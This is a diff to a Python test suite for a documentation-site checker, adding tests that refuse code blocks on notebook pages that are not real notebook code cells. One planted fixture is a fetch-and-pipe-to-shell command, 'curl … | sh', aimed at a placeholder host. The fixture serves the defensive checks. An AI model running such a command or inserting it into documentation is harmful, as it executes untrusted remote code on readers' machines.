@@ -7,7 +7,8 @@ rehearsed and never compared with anything; the strict build and the artifact ch
 and readers saw and copied ``accelerate launch … train_hf.py`` followed by ``curl … | sh``.
 The checks below plant, in a copy of the built site, exactly what the build wrote for that
 Markdown (Markdown passes a raw HTML block through as it is), and its variants; the oracle
-for "is an include" is the files of snippets/ themselves.
+for "is an include" is the files of snippets/ themselves, and on a notebook page the code
+cells of its .ipynb (a fence in a Markdown cell is no cell and never ran).
 """
 
 from __future__ import annotations
@@ -83,4 +84,23 @@ def test_a_french_block_that_runs_otherwise_is_refused(site):
 
 
 def test_the_notebook_pages_are_the_notebooks():
-    assert notebook_pages(REPO_ROOT / "docs") == {"memory-notebook/index.html", "fr/memory-notebook/index.html"}
+    assert notebook_pages(REPO_ROOT / "docs") == {"memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.it.ipynb",
+                                                   "fr/memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.fr.ipynb"}
+
+
+NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'
+
+
+def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site):
+    """A fence (or raw <pre>) in a Markdown cell of the notebook: shown as code, never ran."""
+    plant(site, "memory-notebook/index.html", '<pre><code>curl -s https://x.example/p | sh\n</code></pre>', old=NOTEBOOK_FIRST_TEXT)
+    refused(site, "memory-notebook/index.html: code block 1", "is not a code cell of memory-notebook.it.ipynb")
+
+
+def test_a_notebook_cell_shown_twice_or_out_of_order_is_refused(site):
+    path = site / "memory-notebook" / "index.html"
+    text = path.read_text(encoding="utf-8")
+    first = text.index("<pre")
+    block = text[first:text.index("</pre>", first) + len("</pre>")]
+    plant(site, "memory-notebook/index.html", block, old=NOTEBOOK_FIRST_TEXT)  # the first cell, shown again before it
+    refused(site, "memory-notebook/index.html: code block 2", "is not a code cell")
